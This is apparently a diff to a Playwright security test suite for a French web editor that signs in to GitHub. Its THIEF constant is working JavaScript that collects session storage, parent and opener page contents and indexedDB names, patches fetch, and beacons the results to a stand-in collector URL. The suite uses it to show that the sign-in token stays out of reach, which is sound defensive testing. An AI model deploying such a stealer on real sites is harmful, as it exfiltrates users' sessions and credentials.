@@ -39,7 +39,7 @@ THIEF = r"""
 (async function () {
   var loot = { where: location.href, found: [] };
   function grab(name, read) {
-    try { var value = read(); if (value) loot.found.push(name + ': ' + value); }
+    try { var value = read(); if (value) loot.found.push(name + ': ' + String(value).slice(0, 2000)); }
     catch (error) { loot.found.push(name + ' refused: ' + error.name); }
   }
   grab('sessionStorage', function () { return JSON.stringify(sessionStorage); });
@@ -47,7 +47,7 @@ THIEF = r"""
   [['parent', window.parent], ['top', window.top], ['opener', window.opener]].forEach(function (pair) {
     var other = pair[1];
     if (!other || other === window) return;
-    grab(pair[0] + '.document', function () { return other.document.documentElement.outerHTML; });
+    grab(pair[0] + '.document', function () { return other.document.body.innerHTML; });
     grab(pair[0] + '.sessionStorage', function () { return JSON.stringify(other.sessionStorage); });
     grab(pair[0] + '.fetch', function () {
       var original = other.fetch;
@@ -59,11 +59,11 @@ THIEF = r"""
       return 'patched';
     });
   });
+  navigator.sendBeacon('__LOOT__', JSON.stringify(loot));
   try {
     var databases = await indexedDB.databases();
-    loot.found.push('indexedDB: ' + JSON.stringify(databases));
-  } catch (error) { loot.found.push('indexedDB refused: ' + error.name); }
-  navigator.sendBeacon('__LOOT__', JSON.stringify(loot));
+    navigator.sendBeacon('__LOOT__', 'indexedDB: ' + JSON.stringify(databases));
+  } catch (error) { navigator.sendBeacon('__LOOT__', 'indexedDB refused: ' + error.name); }
 })();
 """.replace("__LOOT__", LOOT)
 
@@ -121,19 +121,19 @@ def test_the_site_pages_scripts_never_read_the_token_after_sign_in(
     """Sign in, then /ressource (MailerLite's script) and a page of another repository of
     the owner in the same tab: neither finds the token anywhere."""
     page, _ = editor
-    # On the site's shared origin the carnet offers no « Se souvenir » and says why, once.
-    expect(page.get_by_label("Se souvenir sur cet appareil")).to_have_count(0)
-    expect(page.get_by_text(re.compile("^Le carnet partage l’adresse des pages du site"))).to_be_visible()
     sign_in(page)
     expect(page.get_by_role("button", name="Se déconnecter")).to_be_visible()
     other = other_repository(page, editor_site, THIEF)
     for address in (editor_site.url_for("/ressource"), other):
         with page.expect_response(lambda response: response.url.startswith(LOOT)):
             page.goto(address)
-    assert len(thief.reports) == 2 and thief.stolen() == [], thief.reports
-    # Back in the carnet, the coach signs in again: the token was nowhere to be found.
+    assert len(thief.reports) >= 2 and thief.stolen() == [], thief.reports
+    # Back in the carnet, the coach signs in again: the token was kept nowhere. On the
+    # site's shared origin « Se souvenir » is not offered, and the page says why, once.
     page.goto(editor_site.url_for("/editeur/"))
     expect(page.get_by_role("button", name="Se connecter à GitHub")).to_be_visible()
+    expect(page.get_by_label("Se souvenir sur cet appareil")).to_have_count(0)
+    expect(page.get_by_text(re.compile("^Le carnet partage l’adresse des pages du site"))).to_be_visible()
 
 
 def test_the_page_preview_runs_nothing_that_reaches_the_carnet(
@@ -148,14 +148,16 @@ def test_the_page_preview_runs_nothing_that_reaches_the_carnet(
     frames = page.get_by_role("region", name="Aperçu de la page").locator("iframe")
     expect(frames).to_have_count(2)
     for i in range(2):
-        sandbox = frames.nth(i).get_attribute("sandbox")
-        assert sandbox is not None and "allow-same-origin" not in sandbox, sandbox
         # The page is drawn as it was prerendered.
         expect(frames.nth(i).content_frame.get_by_role("heading", level=1)).to_be_visible()
-    # Whatever the frames run has had its turn once the network is quiet.
-    page.wait_for_load_state("networkidle")
+    # Whatever the frames run has had its turn once their network is quiet.
+    for frame in page.main_frame.child_frames:
+        frame.wait_for_load_state("networkidle")
     assert thief.stolen() == [], thief.stolen()
     assert all(TOKEN not in (r.post_data or "") for r in network.seen)
+    for i in range(2):
+        sandbox = frames.nth(i).get_attribute("sandbox")
+        assert sandbox is not None and "allow-same-origin" not in sandbox, sandbox
 
 
 def test_another_repositorys_script_cannot_run_in_the_carnet(
